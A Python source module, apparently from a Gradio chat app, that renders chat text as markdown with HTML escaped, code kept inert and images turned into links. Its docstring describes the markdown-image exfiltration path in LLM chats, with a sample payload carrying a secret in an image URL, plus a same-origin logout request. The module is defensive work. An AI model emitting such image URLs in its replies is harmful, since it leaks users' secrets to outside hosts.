"""Chat text as markdown that shows no HTML and loads nothing: the one renderer for chat text.

The Chatbot renders markdown with marked, then sanitises the HTML; the sanitiser strips event
handlers but keeps <img>, so an image in a question or a reply fetches its URL as soon as it is
shown. In an LLM chat that is an exfiltration path: a reply can carry
`![](https://host/?d=<secret>)`. So chat text goes through `chat_markdown()` first:

* No images from chat text at all, not even from this server: an image is fetched without a
  click, and a same-origin one is a GET carrying the user's session (`![](/logout)` would sign
  them out). `![alt](url)` and `![alt][ref]` become the links `[image: alt](url)` and
  `[image: alt][ref]`, which load nothing until the user chooses to open them.
* HTML shows as characters: `<` and `&` are escaped outside code.
* Code shows as code, and no way of writing it can turn into markup. Where the output keeps
  code as markdown (a fence, an inline span), it is written so that marked cannot read it
  otherwise; where it cannot be sure of that, the code goes out as HTML whose every
  punctuation character is an entity, which shows the same text whatever marked makes of it.

What the page does with the string, and what this module relies on (Gradio 6.31):
`inspect.cleandoc` on the message; `$$…$$` swapped out before marked and back in escaped
(LATEX_DELIMITERS); a ```` ```mermaid ```` extension that inserts its body unescaped; marked
(GFM) with link reference definitions whose label may run across lines; the sanitiser.
"""

from __future__ import annotations

import bisect
import itertools
import re
from dataclasses import dataclass

# The Chatbot's own default (gr.Chatbot(latex_delimiters=None)); a unit test keeps them equal.
LATEX_DELIMITERS: tuple[tuple[str, str], ...] = (("$$", "$$"),)

_FENCE_OPEN = re.compile(r"(?P<indent> *)(?P<fence>`{3,}|~{3,})(?P<info>.*)")
_ESCAPE_OR_RUN = re.compile(r"\\[!-/:-@\[-`{-~]|`+")
_BLOCK_START = re.compile(r"\n {0,3}(?:[#>]|[-+*][ \t]|\d{1,9}[.)][ \t]|\n|[ \t]*\n)")
# Inline code whose text is harmless even if marked did not read it as code.
_UNSAFE_SPAN = re.compile(r"[<\[\]]|`{3}|~{3}")
_LANG = re.compile(r"[A-Za-z0-9+#-]{1,30}")
_TEXT = re.compile(
    r"""\\(?P<esc>[!-/:-@\[-`{-~])            # a backslash escape, kept as written
      | <(?P<url>(?:https?|ftp)://[^\s<>]+)>  # an autolink: the bare URL, which GFM links
      | (?P<bangs>!+)\[                       # an image opener
      | (?P<tildes>~{3,})                     # would open a ~~~ fence
      | \](?=:)                               # would end a link reference definition label
      | [`<&]""",
    re.VERBOSE,
)
_RAW_BRACKET = re.compile(r"\\.|[\[\]]", re.DOTALL)


@dataclass(frozen=True)
class _Fence:
    """A fenced code block: its language word and its lines, as CommonMark reads them."""

    lang: str
    lines: tuple[str, ...]


@dataclass(frozen=True)
class _Span:
    """An inline code span: as written (opener to closer) and the text it shows."""

    raw: str
    content: str


def chat_markdown(text: str) -> str:
    """Markdown for the Chatbot: the text's formatting, without HTML or images."""
    blocks = _blocks(_clean(text))
    rendered, fences = _render(blocks, fences_as_html=False)
    if _latex_crosses(rendered, fences):
        rendered, _ = _render(blocks, fences_as_html=True)
    return rendered


def _clean(text: str) -> str:
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    return re.sub("[\ud800-\udfff]", "\ufffd", text)  # lone surrogates cannot be sent


# -- reading ----------------------------------------------------------------------------------


def _blocks(text: str) -> list[str | _Fence]:
    """Split into text chunks and fenced code blocks (``` or ~~~, any indentation)."""
    lines = text.split("\n")  # not splitlines(): marked breaks lines on \n only
    blocks: list[str | _Fence] = []
    chunk: list[str] = []
    i = 0
    while i < len(lines):
        opened = _FENCE_OPEN.fullmatch(lines[i])
        if opened is None or (opened["fence"][0] == "`" and "`" in opened["info"]):
            chunk.append(lines[i])
            i += 1
            continue
        indent, fence = len(opened["indent"]), opened["fence"]
        closer = re.compile(rf" *{re.escape(fence[0])}{{{len(fence)},}}[ \t]*")
        body: list[str] = []
        i += 1
        while i < len(lines) and not closer.fullmatch(lines[i]):
            body.append(_dedent(lines[i], indent))
            i += 1
        i += 1  # past the closing line, or past the end when the fence never closes
        if chunk:
            blocks.append("\n".join(chunk))
            chunk = []
        blocks.append(_Fence(_lang(opened["info"]), tuple(body)))
    if chunk:
        blocks.append("\n".join(chunk))
    return blocks


def _dedent(line: str, indent: int) -> str:
    spaces = len(line) - len(line.lstrip(" "))
    return line[min(spaces, indent) :]


def _lang(info: str) -> str:
    words = info.split()
    found = _LANG.match(words[0]) if words else None
    lang = found.group() if found else ""
    # The page's mermaid extension inserts a ```mermaid body unescaped: never write one.
    return "text" if lang.casefold() == "mermaid" else lang


def _inline(chunk: str) -> list[str | _Span]:
    """Split a text chunk into text and code spans (CommonMark: equal backtick runs)."""
    runs: dict[int, list[int]] = {}  # width -> where each run of exactly that many starts
    for found in re.finditer("`+", chunk):
        runs.setdefault(len(found.group()), []).append(found.start())
    breaks = [found.start() for found in _BLOCK_START.finditer(chunk)]
    pieces: list[str | _Span] = []
    start = pos = 0
    while (run := _ESCAPE_OR_RUN.search(chunk, pos)) is not None:
        pos = run.end()
        if run.group()[0] == "\\":
            continue
        width = len(run.group())
        closers = runs.get(width, [])
        after = bisect.bisect_left(closers, pos)
        if after == len(closers):
            continue  # no closer: the backticks are plain text
        close = closers[after]
        next_break = bisect.bisect_left(breaks, pos)
        if next_break < len(breaks) and breaks[next_break] < close:
            continue  # the closer is in another paragraph
        content = chunk[pos:close].replace("\n", " ")
        if content.startswith(" ") and content.endswith(" ") and content.strip(" "):
            content = content[1:-1]
        pieces += [chunk[start : run.start()], _Span(chunk[run.start() : close + width], content)]
        start = pos = close + width
    pieces.append(chunk[start:])
    return pieces


# -- writing ----------------------------------------------------------------------------------


def _render(blocks: list[str | _Fence], fences_as_html: bool) -> tuple[str, list[range]]:
    """The markdown, and where each fence kept as markdown lies in it (for the LaTeX check)."""
    out: list[str] = []
    fence_pieces: list[int] = []  # which pieces of `out` are fences kept as markdown
    open_bracket: tuple[int, int] | None = None  # (piece, offset) of a "[" nothing closed yet
    for number, block in enumerate(blocks):
        if number:
            out.append("\n")
        if isinstance(block, _Fence):
            if fences_as_html:
                out.append(_fence_html(block))
                continue
            if open_bracket is not None:
                # A link reference definition's label may run across lines, into this fence,
                # and end at a "]:" in the code; escaped, this "[" opens nothing (it was
                # unmatched: a fence ends a paragraph), so the fence stays a fence.
                at, offset = open_bracket
                out[at] = out[at][:offset] + "\\" + out[at][offset:]
                open_bracket = None
            fence_pieces.append(len(out))
            out.append(_fence_markdown(block))
            continue
        for piece in _inline(block):
            if isinstance(piece, _Span):
                out.append(_span_markdown(piece))
                continue
            out.append(_text_markdown(piece))
            for bracket in _RAW_BRACKET.finditer(out[-1]):
                if bracket.group() == "[":
                    open_bracket = (len(out) - 1, bracket.start())
                elif bracket.group() == "]":
                    open_bracket = None
    starts = [0, *itertools.accumulate(map(len, out))]
    return "".join(out), [range(starts[i], starts[i + 1]) for i in fence_pieces]


def _text_markdown(text: str) -> str:
    return _TEXT.sub(_text_replacement, text)


def _text_replacement(found: re.Match[str]) -> str:
    if (escaped := found["esc"]) is not None:
        return {"<": "&lt;", "&": "&amp;"}.get(escaped, found.group())
    if found["url"] is not None:
        return _text_markdown(found["url"])
    if found["bangs"] is not None:  # the "!" before "[" goes; any "!" before it is an entity
        return "&#33;" * (len(found["bangs"]) - 1) + "[image: "
    if found["tildes"] is not None:
        return "\\~" * len(found["tildes"])
    return {"`": "\\`", "<": "&lt;", "&": "&amp;", "]": "\\]"}[found.group()]


def _span_markdown(span: _Span) -> str:
    if _UNSAFE_SPAN.search(span.content):
        return f"<code>{_entities(span.content)}</code>"
    return span.raw.replace("\n", " ")


def _fence_markdown(fence: _Fence) -> str:
    """A fence marked cannot close early: at column 0, longer than any backtick run inside."""
    longest = max((len(run) for run in re.findall("`+", "\n".join(fence.lines))), default=0)
    marker = "`" * max(3, longest + 1)
    return "\n".join((marker + fence.lang, *fence.lines, marker))


def _fence_html(fence: _Fence) -> str:
    language = f' class="language-{fence.lang}"' if fence.lang else ""
    body = _entities("\n".join(fence.lines))
    return f"<pre><code{language}>{body}</code></pre>"


def _entities(text: str) -> str:
    """Every ASCII character but letters, digits and space as a numeric entity."""
    return "".join(
        c if c == " " or (c.isascii() and c.isalnum()) or not c.isascii() else f"&#{ord(c)};"
        for c in text
    )


def _latex_crosses(rendered: str, fences: list[range]) -> bool:
    """Whether the page's $$…$$ swap would take a fence's opening or closing line but not both.

    The page replaces each LaTeX span before marked runs; one that swallows a fence's opener
    and not its closer would leave the code to be read as text.
    """
    starts = [fence.start for fence in fences]
    for left, right in LATEX_DELIMITERS:
        pattern = re.escape(left) + r"[\s\S]+?" + re.escape(right)
        for found in re.finditer(pattern, rendered):
            # Fences that begin before the match ends; those that also end after it begins
            # overlap it. Matches do not overlap one another, so this stays linear.
            first = bisect.bisect_right(starts, found.start()) - 1
            for fence in fences[max(first, 0) : bisect.bisect_left(starts, found.end())]:
                if fence.stop <= found.start():
                    continue
                opener_end = rendered.index("\n", fence.start)
                closer_start = rendered.rindex("\n", fence.start, fence.stop) + 1
                inside = opener_end < found.start() and found.end() <= closer_start
                around = found.start() <= fence.start and fence.stop <= found.end()
                if not inside and not around:
                    return True
    return False
